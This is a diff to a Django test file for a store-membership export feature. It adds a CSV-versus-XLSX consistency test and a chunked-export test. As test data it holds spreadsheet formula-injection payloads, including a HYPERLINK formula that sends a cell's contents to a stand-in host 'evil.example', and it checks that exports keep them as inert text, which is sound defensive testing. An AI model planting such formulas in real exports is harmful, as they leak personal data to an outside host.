@@ -69,7 +69,7 @@ def test_every_export_is_logged(members, manager, specialist):
     export_members(specialist)
     first, second = ExportLog.objects.order_by("pk")
     assert first.exported_by == manager and first.kind == "members" and first.exported_at is not None
-    assert first.filters == {"store": members[0].home_store_id, "tag": "喜欢喝茶", "q": "王"}
+    assert first.filters == {"store": members[0].home_store_id, "tag": "喜欢喝茶", "q": "王", "format": "xlsx"}
     assert first.row_count == 1 and first.full_data is False
     assert second.exported_by == specialist and second.row_count == 3 and second.full_data is True
 
@@ -117,3 +117,49 @@ def test_text_a_member_typed_never_becomes_a_formula_in_the_export(members, spec
     assert not [c.coordinate for row in workbook.active.iter_rows() for c in row if c.data_type == "f"]
     values = {v for row in workbook.active.iter_rows(values_only=True) for v in row}
     assert '=HYPERLINK("http://evil.example/?"&D2,"x")' in values and "@SUM(A1)" in values
+
+
+def test_csv_export_has_the_same_rows_as_the_xlsx_with_text_kept_as_text(members, specialist):
+    import csv
+    import io
+
+    wang = members[0]
+    wang.occupation = "=HYPERLINK(\"http://evil.example\")"
+    wang.save()
+    _header, xlsx_rows = read(export_members(specialist)[0])
+    out, count = export_members(specialist, file_format="csv")
+    table = list(csv.reader(io.StringIO(out.read().decode("utf-8-sig"), newline="")))
+    assert count == 3 and table[0] == export_headers()
+    csv_rows = [dict(zip(table[0], row, strict=True)) for row in table[1:]]
+
+    def text(value):
+        if value is None:
+            return ""
+        if isinstance(value, dt.datetime):
+            return value.isoformat(sep=" ", timespec="seconds").removesuffix(" 00:00:00")
+        return str(value)
+
+    for xr, cr in zip(xlsx_rows, csv_rows, strict=True):
+        for key, value in xr.items():
+            expected = text(value)
+            if expected.startswith("="):
+                expected = "'" + expected  # a spreadsheet opens the CSV: never a formula
+            if isinstance(value, float):
+                expected = f"{value:.2f}" if "." in cr[key] else str(int(value))
+            assert cr[key] == expected, key
+    assert ExportLog.objects.filter(filters__format="csv").count() == 1
+
+
+@pytest.mark.django_db(transaction=True)
+def test_a_long_export_reads_ahead_in_chunks_and_loses_no_member(store, specialist, monkeypatch):
+    from membercare.members import exports
+
+    made = [MemberFactory(home_store=store, name=f"会员{i}") for i in range(23)]
+    for i, m in enumerate(made):
+        if i % 3 == 0:
+            set_member_tags(m, ["乙标签", "甲标签"])
+    monkeypatch.setattr(exports._member_rows, "__kwdefaults__", {"chunk": 4})  # 6 chunks
+    with translation.override("en"):
+        _header, rows = read(export_members(specialist)[0])
+    assert [r["Member number"] for r in rows] == [m.member_no for m in made]  # once each, in order
+    assert [r["Tags"] for r in rows] == [("乙标签, 甲标签" if i % 3 == 0 else None) for i in range(23)]  # by name
